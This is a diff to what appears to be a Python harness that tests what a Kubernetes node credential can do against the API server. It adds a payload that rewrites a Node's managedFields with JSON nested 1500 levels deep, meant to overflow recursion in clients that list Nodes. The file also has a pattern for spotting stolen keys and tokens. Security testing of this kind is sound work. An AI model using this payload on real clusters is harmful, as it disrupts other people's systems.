@@ -45,6 +45,9 @@ PASSING: Mapping[str, Mapping[str, str]] = {
 _MARK = "== "
 _UID = "@uid-of-its-node@"
 """In the body of an attempt: what is put there when it is tried."""
+_DEEP, _LEVELS = "@fields of fields@", 1500
+"""In the body of an attempt: JSON of so many levels, which is put there as text. Python allows 1000 calls."""
+_NESTED = '{"f:a":' * _LEVELS + "{}" + "}" * _LEVELS
 _TELLTALE = "PRIVATE KEY|client-key-data|eyJhbGciOi"
 """What every credential that the API takes has in it: a key, or a token."""
 
@@ -119,7 +122,7 @@ class Worker:
             for header in (f"Content-Type: {kind}", *one.headers):
                 words += ["-H", header]
             if one.body is not None:
-                words += ["-d", json.dumps(one.body).replace(_UID, uid)]
+                words += ["-d", json.dumps(one.body).replace(_UID, uid).replace(f'"{_DEEP}"', _NESTED)]
             words += ["-w", f"\n{_MARK}{number} %{{http_code}}\n", f"https://127.0.0.1:6443{one.path}"]
             calls.append(f"{credential.curl} {shlex.join(words)}")
         said = self.cluster.shell(self.name, f"curl {' --next '.join(calls)} 2>&1 || true")
@@ -216,6 +219,26 @@ def orders(node: str) -> list[Attempt]:
         },
     }
     return [one for what, metadata in changes.items() for one in on_node(node, what, metadata)]
+
+
+def nested_without_end(node: Mapping[str, Any]) -> Attempt:
+    """The whole Node, as if it had been written by one more manager. Whoever lists Nodes reads of which fields."""
+    meta = {key: value for key, value in node["metadata"].items() if key != "resourceVersion"}
+    entry = {
+        "manager": "intruder",
+        "operation": "Update",
+        "apiVersion": "v1",
+        "time": "2026-01-01T00:00:00Z",
+        "fieldsType": "FieldsV1",
+        "fieldsV1": {"f:metadata": {"f:annotations": _DEEP}},
+    }
+    body = {
+        "apiVersion": "v1",
+        "kind": "Node",
+        "metadata": {**meta, "managedFields": [*meta["managedFields"], entry]},
+        "spec": node["spec"],
+    }
+    return Attempt("fields of fields", "PUT", f"/api/v1/nodes/{meta['name']}", body)
 
 
 def foreign(node: str) -> list[Attempt]:
